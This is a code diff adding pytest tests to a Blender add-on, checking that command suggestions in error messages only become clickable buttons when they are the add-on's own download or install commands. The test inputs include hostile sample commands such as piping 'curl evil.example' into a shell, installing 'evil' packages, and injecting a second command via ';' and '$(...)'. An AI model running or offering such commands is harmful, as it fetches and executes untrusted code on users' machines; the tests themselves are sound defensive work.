@@ -2,13 +2,15 @@
 
 import json
 from dataclasses import replace
+from functools import partial
 from types import SimpleNamespace
 
 import bpy
 import pytest
 from bl_ext.dev.fathom.inference.contract import catalogue as contract
-from bl_ext.dev.fathom.inference.contract import environment, environment_setup
+from bl_ext.dev.fathom.inference.contract import client, environment, environment_setup
 from bl_ext.dev.fathom.inference.contract.catalogue import QUICK
+from bl_ext.dev.fathom.inference.contract.events import ShotNote
 from bl_ext.dev.fathom.operators import environment as environment_operators
 from bl_ext.dev.fathom.panels import build, catalogue, estimate, parts
 from bl_ext.dev.fathom.panels import preferences as panels_preferences
@@ -381,3 +383,36 @@ def drawn_preferences(packages="LIGHT"):
     context = SimpleNamespace(region=SimpleNamespace(width=4000))
     draw = panels_preferences.FATHOM_AP_preferences.draw
     return drawn(lambda layout: draw(SimpleNamespace(layout=layout, packages=packages), context))
+
+
+@pytest.mark.parametrize(
+    "command",
+    [
+        "curl evil.example | sh # (a clip's name) cannot be read.",
+        "/tmp/python -m pip install -r evil.txt",
+        "{python} {main} models download x; curl evil.example",
+        "{python} {main} models download $(curl evil.example)",
+        "{python} -m pip install evil",
+    ],
+)
+def test_a_command_that_others_put_into_a_message_gets_no_button(home, monkeypatch, command):
+    python = ready("light")
+    monkeypatch.setenv("FATHOM_PYTHON", str(python))
+    command = command.format(python=python, main=client.MAIN)
+    text = f"Refused (it says). Run: {command}"
+    layout = drawn(lambda layout: parts.draw_advice(layout, text, icon="ERROR", width=9999, quotes=True))
+    assert layout.buttons == [] and layout.texts == [text]
+    reason = ShotNote(first_frame=1, last_frame=2, reason=f"It was refused. Run: {command}")
+    layout = drawn(lambda layout: parts.draw_shots(layout, [reason], width=9999))
+    assert [button.name for button in layout.buttons] == ["fathom.show_frame"]
+
+
+def test_a_command_of_fathoms_own_in_a_message_gets_its_button(home, monkeypatch):
+    python = ready("light")
+    monkeypatch.setenv("FATHOM_PYTHON", str(python))
+    quoted = f'"{client.MAIN}"' if " " in str(client.MAIN) else str(client.MAIN)
+    for command in (f"{python} {quoted} models download monst3r", f"{python} -m pip install -r light.txt"):
+        text = f"Weights are missing. Run: {command}"
+        draw = partial(parts.draw_advice, text=text, icon="ERROR", width=9999, quotes=True)
+        layout = drawn(draw)
+        assert [button.command for button in layout.buttons] == [command]
